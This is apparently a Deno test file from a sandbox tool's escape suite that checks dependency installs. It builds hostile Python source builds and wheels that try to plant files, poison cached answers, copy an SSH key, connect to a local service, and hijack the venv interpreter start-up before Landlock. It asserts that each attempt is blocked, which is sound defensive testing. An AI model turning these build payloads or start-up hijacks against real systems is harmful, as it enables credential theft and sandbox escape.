/**
 * The escape suite, dependency installs: a pinned requirement served only as a source
 * distribution whose build writes outside, reads ~/.ssh and connects out, built in the sandbox,
 * and never on the host by `capibara show`'s run-by-hand steps (see _escape.ts).
 */
import assert from "node:assert/strict";
import { basename, join } from "node:path";
import { sha256 } from "../../src/_hash.ts";
import { DependencyError, PermissionError } from "../../src/errors.ts";
import { denoDirKey } from "../../src/runtimes/deno.ts";
import { manualCommand } from "../../src/readme.ts";
import { esmPackage, startRegistry } from "../helpers/npm_registry.ts";
import { buildSdist, buildWheel } from "../helpers/wheel.ts";
import {
  attack,
  CACHE,
  escapeSuite,
  exists,
  HOME,
  OTHER,
  py,
  ROOT,
  SERVICE_PORT,
  serviceHits,
  SSH_KEY,
  ts,
} from "./_escape.ts";

// --- dependency installs: a pinned requirement served only as a source distribution ----------
// Its build backend runs during `pip install`. With source builds allowed (a trusted config), it
// runs in the sandbox: it must write nothing outside, read no key, reach no host service. The
// project is a folder of its own, so that its config grants nothing to the attacks above.
/** The host service's count before an attack. */
let hitsBefore = 0;
const BUILD_PROJECT = join(ROOT, "build-project");
const BUILD_PLANT = join(OTHER, "planted-by-build.txt");
const BUILD_EXFIL = join(OTHER, "key-from-build.txt");
const CACHE_PLANT = join(CACHE, "python", "pip-planted-by-build.json");
/** Capibara's remembered answers in its cache (`<cache>/<kind>/<name>.json`), with their text. */
async function remembered(): Promise<Record<string, string>> {
  const found: Record<string, string> = {};
  for await (const kind of Deno.readDir(CACHE)) {
    if (!kind.isDirectory) continue;
    for await (const file of Deno.readDir(join(CACHE, kind.name))) {
      const path = join(CACHE, kind.name, file.name);
      if (file.isFile && file.name.endsWith(".json")) found[path] = await Deno.readTextFile(path);
    }
  }
  return found;
}
let rememberedBefore: Record<string, string> = {};
await Deno.mkdir(join(BUILD_PROJECT, ".capibara"), { recursive: true });
await Deno.writeTextFile(
  join(BUILD_PROJECT, ".capibara", "config.json"),
  JSON.stringify({ install: { source_builds: true } }),
);
const evilSdist = await buildSdist(join(ROOT, "dist"), {
  name: "capibara-escape-build",
  version: "1.0.0",
  module: { "capibara_escape_build.py": "VALUE = 1\n" },
  buildCode: `
import glob, os, socket
for action in (
    lambda: open(${JSON.stringify(BUILD_PLANT)}, "w").write("planted"),
    # What Capibara remembers for later processes (pip's answer, the sandbox's probe): a planted or
    # rewritten one would steer later installs and runs.
    lambda: [open(f, "w").write("{}") for f in glob.glob(${JSON.stringify(CACHE)} + "/*/*.json")],
    lambda: os.makedirs(${JSON.stringify(join(CACHE, "python"))}, exist_ok=True),
    lambda: open(${JSON.stringify(CACHE_PLANT)}, "w").write("{}"),
    lambda: open(${JSON.stringify(BUILD_EXFIL)}, "w").write(open(${
    JSON.stringify(SSH_KEY)
  }).read()),
    lambda: socket.create_connection(("127.0.0.1", ${SERVICE_PORT}), timeout=3).sendall(b"GET / HTTP/1.0\\r\\n\\r\\n"),
):
    try:
        action()
    except Exception:
        pass
`,
});
// Wheels that overwrite what starts every script, before the sandbox's Landlock step: the venv's
// interpreter (`*.data/scripts/python`) and its pyvenv.cfg (`*.data/data/pyvenv.cfg`, whose
// `home` names the interpreter). Evidence: a mount table read before the rule set, in the output.
const MOUNTINFO_SHIM = `#!/bin/sh
CAPIBARA_EARLY=$(head -c 300 /proc/self/mountinfo 2>&1 | base64 -w0)
export CAPIBARA_EARLY
exec "$(dirname "$0")/python3" "$@"
`;
const interpWheel = await buildWheel(join(ROOT, "dist"), {
  name: "capibara-escape-interp",
  version: "1.0.0",
  module: {
    "capibara_escape_interp.py": "VALUE = 1\n",
    "capibara_escape_interp-1.0.0.data/scripts/python": MOUNTINFO_SHIM,
  },
});
const cfgWheel = await buildWheel(join(ROOT, "dist"), {
  name: "capibara-escape-cfg",
  version: "1.0.0",
  module: {
    "capibara_escape_cfg.py": "VALUE = 1\n",
    "capibara_escape_cfg-1.0.0.data/data/pyvenv.cfg":
      "home = /tmp/capibara-escape-elsewhere\ninclude-system-site-packages = true\n",
  },
});
// A source build rewires what the venv's interpreter reads at start-up, before the Landlock step:
// pyvenv.cfg becomes a symlink that reads the same on the host (through a kernel thread's
// /proc/<pid>/root, which only a root Capibara can open) but leads nowhere in the sandbox's pid
// namespace, so Python falls back to bin/pyvenv.cfg, which names a planted "standard library"
// whose `encodings` reads a mount table.
let kernelThread = 0;
const pids = [];
for await (const entry of Deno.readDir("/proc")) {
  if (/^\d+$/.test(entry.name) && Number(entry.name) >= 40) pids.push(Number(entry.name));
}
for (const pid of pids.sort((a, b) => a - b)) {
  // A kernel thread (its parent is kthreadd, pid 2), long-lived, whose root this process may open.
  const stat = await Deno.readTextFile(`/proc/${pid}/stat`).catch(() => "");
  if (!/\) \S+ 2 /.test(stat) || stat.includes("kworker")) continue;
  const open = await Deno.readDir(`/proc/${pid}/root`)[Symbol.asyncIterator]().next().then(
    () => true,
    () => false,
  );
  if (open) {
    kernelThread = pid;
    break;
  }
}
const startupSdist = await buildSdist(join(ROOT, "dist"), {
  name: "capibara-escape-startup",
  version: "1.0.0",
  module: { "capibara_escape_startup.py": "VALUE = 1\n" },
  buildCode: `
import os, sys
venv = os.path.dirname(os.path.dirname(sys.executable))
version = "python%d.%d" % sys.version_info[:2]
base = [p for p in sys.path if p.startswith(sys.base_prefix)]
lib = os.path.join(venv, "planted", "lib", version)
try:
    os.makedirs(os.path.join(lib, "encodings"), exist_ok=True)
    os.makedirs(os.path.join(venv, "planted", "bin"), exist_ok=True)
    open(os.path.join(lib, "os.py"), "w").close()
    open(os.path.join(lib, "encodings", "__init__.py"), "w").write(
        "import posix, sys\\n"
        "try:\\n"
        "    fd = posix.open('/proc/self/mountinfo', posix.O_RDONLY)\\n"
        "    data = posix.read(fd, 300)\\n"
        "except OSError as e:\\n"
        "    data = b'denied'\\n"
        "posix.environ[b'CAPIBARA_EARLY'] = data.replace(b'\\\\n', b' ')\\n"
        "sys.path[:] = %r\\n"
        "del sys.modules['encodings']\\n"
        "import encodings\\n" % (base,))
    open(os.path.join(venv, "bin", "pyvenv.cfg"), "w").write(
        "home = " + os.path.join(venv, "planted", "bin") + "\\n")
    cfg = os.path.join(venv, "pyvenv.cfg")
    os.rename(cfg, cfg + ".real")
    os.symlink("/proc/${kernelThread}/root" + cfg + ".real", cfg)
except Exception:
    pass
`,
});
/** Files the index serves, by project name. */
const served = new Map<string, { file: string; bytes: Uint8Array<ArrayBuffer> }>();
for (
  const [project, file] of [
    ["capibara-escape-build", evilSdist],
    ["capibara-escape-interp", interpWheel],
    ["capibara-escape-cfg", cfgWheel],
    ["capibara-escape-startup", startupSdist],
  ] as const
) {
  served.set(project, { file, bytes: await Deno.readFile(file) });
}
/** A token a hosted index keeps in its URL's path (`/<token>/…/simple/`), and its requests. */
const INDEX_TOKEN = "tok0a1b2c3d4e5f6789";
let tokenRequests = 0;
const packageIndex = Deno.serve(
  { hostname: "127.0.0.1", port: 0, onListen() {} },
  async (request) => {
    let path = new URL(request.url).pathname;
    if (path.startsWith(`/${INDEX_TOKEN}/`)) {
      tokenRequests++;
      path = path.slice(INDEX_TOKEN.length + 1);
    }
    const project = /^\/simple\/([a-z-]+)\/?$/.exec(path)?.[1];
    const entry = project ? served.get(project) : undefined;
    if (entry) {
      const name = basename(entry.file);
      const page = `<!DOCTYPE html><html><body><a href="/files/${name}#sha256=${await sha256(
        entry.bytes,
      )}">${name}</a></body></html>`;
      return new Response(page, { headers: { "content-type": "text/html" } });
    }
    for (const { file, bytes } of served.values()) {
      if (path === `/files/${basename(file)}`) return new Response(bytes);
    }
    return new Response("not found", { status: 404 });
  },
);
globalThis.addEventListener("unload", () => void packageIndex.shutdown());
/** The environment of every attack here: pip's index is the loopback one above. */
const INDEX_ENV = {
  PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
  HOME,
  CAPIBARA_INDEX_URL: `http://127.0.0.1:${packageIndex.addr.port}/simple/`,
};
attack({
  name:
    "a requirement's source build writes outside (Capibara's remembered answers too), reads ~/.ssh and connects out",
  language: "python",
  script: py(`import capibara_escape_build
detail = "installed"`),
  requirements: ["capibara-escape-build==1.0.0"],
  project: BUILD_PROJECT,
  options: {
    trustProjectConfig: true,
    env: INDEX_ENV,
  },
  timeout: 120,
  leaks: ["hunter2"],
  // The build ran (the script imports what it built): only the sandbox stopped it.
  granted: (o) => assert.equal(o.detail, "installed"),
  async before() {
    hitsBefore = serviceHits;
    rememberedBefore = await remembered();
  },
  async hostUnchanged() {
    // Capibara writes its own (pip's answer, asked before the install): the build rewrites none
    // (with "{}"), and plants none.
    const after = await remembered();
    for (const [path, text] of Object.entries(rememberedBefore)) {
      assert.equal(after[path], text, `the build changed ${path}`);
    }
    for (const [path, text] of Object.entries(after)) {
      assert.notEqual(text, "{}", `the build rewrote ${path}`);
    }
    assert.equal(await exists(CACHE_PLANT), false, "the build planted a pip answer");
    const planted = await exists(BUILD_PLANT);
    const stolen = await Deno.readTextFile(BUILD_EXFIL).catch(() => "");
    await Deno.remove(BUILD_PLANT).catch(() => {});
    await Deno.remove(BUILD_EXFIL).catch(() => {});
    assert.equal(planted, false, "the build wrote outside");
    assert.ok(!stolen.includes("hunter2"), "the build read the key");
    assert.equal(serviceHits, hitsBefore, "the build reached the host service");
  },
});

for (
  const [project, what] of [
    ["capibara-escape-interp", "the environment's bin/python"],
    ["capibara-escape-cfg", "the environment's pyvenv.cfg"],
  ] as const
) {
  attack({
    name: `a wheel overwrites ${what}, which starts every script before Landlock`,
    language: "python",
    script: py(`early = os.environ.get("CAPIBARA_EARLY", "")
import base64
text = base64.b64decode(early).decode(errors="replace") if early else ""
breached = "/" in text and "Permission denied" not in text
detail = (text or "no early code ran")[:200]`),
    requirements: [`${project}==1.0.0`],
    blockedBy: [DependencyError],
    options: {
      env: INDEX_ENV,
    },
    timeout: 120,
  });
}

attack({
  name: "a source build plants bin/pyvenv.cfg and hides pyvenv.cfg: a start-up before Landlock",
  language: "python",
  script: py(`early = os.environ.get("CAPIBARA_EARLY", "")
breached = "/" in early
detail = early[:200] or "no early code ran"`),
  requirements: ["capibara-escape-startup==1.0.0"],
  project: BUILD_PROJECT,
  blockedBy: [DependencyError],
  options: {
    trustProjectConfig: true,
    env: INDEX_ENV,
  },
  timeout: 120,
});

// `capibara show` prints how to run an entry by hand, outside the sandbox: its install step takes
// wheels only, so the same source distribution's build never runs on the host.
attack({
  name: "capibara show's run-by-hand steps install a requirement's source build",
  language: "python",
  script: py(`import capibara_escape_build
detail = "installed"`),
  requirements: ["capibara-escape-build==1.0.0"],
  project: BUILD_PROJECT,
  options: {
    trustProjectConfig: true,
    env: INDEX_ENV,
  },
  timeout: 120,
  async via(cb, prompt) {
    const result = await cb.run(prompt, { context: {}, language: "python" });
    const manifest = JSON.parse(
      await Deno.readTextFile(
        join(BUILD_PROJECT, ".capibara", "scripts", result.fingerprint, "manifest.json"),
      ),
    );
    await new Deno.Command("sh", {
      args: ["-c", manualCommand(manifest, manifest.deps)],
      cwd: BUILD_PROJECT,
      env: {
        PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
        HOME,
        PIP_INDEX_URL: `http://127.0.0.1:${packageIndex.addr.port}/simple/`,
        PIP_DISABLE_PIP_VERSION_CHECK: "1",
      },
      clearEnv: true,
      stdout: "null",
      stderr: "null",
    }).output();
    return { breached: false, detail: "ran by hand" };
  },
  async hostUnchanged() {
    const planted = await exists(BUILD_PLANT);
    const stolen = await Deno.readTextFile(BUILD_EXFIL).catch(() => "");
    await Deno.remove(BUILD_PLANT).catch(() => {});
    await Deno.remove(BUILD_EXFIL).catch(() => {});
    assert.equal(planted, false, "the build ran on the host: it wrote outside");
    assert.ok(!stolen.includes("hunter2"), "the build ran on the host: it read the key");
  },
});

// The same source build from an index whose URL holds a token in its path: pip hands its URLs to
// the build scripts it starts, which could send the token back to the index or keep it in the
// environment they build (an attacker's review). Refused before pip asks the index anything.
attack({
  name: "a requirement's source build from an index whose URL holds a token in its path",
  language: "python",
  script: py(`import capibara_escape_build
detail = "installed"`),
  requirements: ["capibara-escape-build==1.0.0"],
  project: BUILD_PROJECT,
  options: {
    trustProjectConfig: true,
    env: {
      ...INDEX_ENV,
      CAPIBARA_INDEX_URL: `http://127.0.0.1:${packageIndex.addr.port}/${INDEX_TOKEN}/simple/`,
    },
  },
  timeout: 120,
  leaks: [INDEX_TOKEN],
  blockedBy: [DependencyError],
  hostUnchanged() {
    assert.equal(tokenRequests, 0, "pip asked the index with the token: a build could see it");
    return Promise.resolve();
  },
});

// --- npm packages: only those the requirements pin -----------------------------------------------
// Where no OS sandbox takes the network away (Deno's flags alone), the import check (`deno info`)
// runs on the host with the requirement set's shared npm cache: a package the script names and
// its requirements do not must be neither fetched nor run.
const npmRegistry = await startRegistry([
  esmPackage("capibara-declared", "1.0.0", "declared package"),
  esmPackage("capibara-undeclared", "1.0.0", "UNDECLARED package ran"),
]);
const NPM_PROJECT = join(ROOT, "npm-project");
await Deno.mkdir(NPM_PROJECT, { recursive: true });
/** Whether a file or folder named `name` is anywhere under `dir`. */
async function holds(dir: string, name: string): Promise<boolean> {
  let entries: Deno.DirEntry[];
  try {
    entries = await Array.fromAsync(Deno.readDir(dir));
  } catch {
    return false;
  }
  for (const entry of entries) {
    if (entry.name === name) return true;
    if (entry.isDirectory && await holds(join(dir, entry.name), name)) return true;
  }
  return false;
}
attack({
  name: "import an npm package its requirements do not pin, under Deno's flags alone",
  language: "typescript",
  script: ts(`const declared = (await import("npm:capibara-declared@1.0.0")).default;
const extra = (await import("npm:capibara-undeclared@1.0.0")).default;
detail = declared + " | " + extra;
breached = extra.includes("UNDECLARED");`),
  requirements: ["capibara-declared==1.0.0"],
  project: NPM_PROJECT,
  options: {
    sandbox: false,
    env: { PATH: "/usr/bin:/bin", HOME, NPM_CONFIG_REGISTRY: npmRegistry.url },
  },
  timeout: 120,
  blockedBy: [PermissionError],
  async hostUnchanged() {
    assert.deepEqual(
      npmRegistry.requests.filter((path) => path.includes("capibara-undeclared")),
      [],
      "the host fetched a package the requirements do not pin",
    );
    const shared = join(CACHE, "deno", await denoDirKey(["capibara-declared==1.0.0"]), "npm");
    assert.equal(await holds(shared, "capibara-undeclared"), false, "the shared cache holds it");
  },
});

Deno.test(escapeSuite("dependency installs", { atLeast: { sandbox: 6, noSandbox: 0 } }));
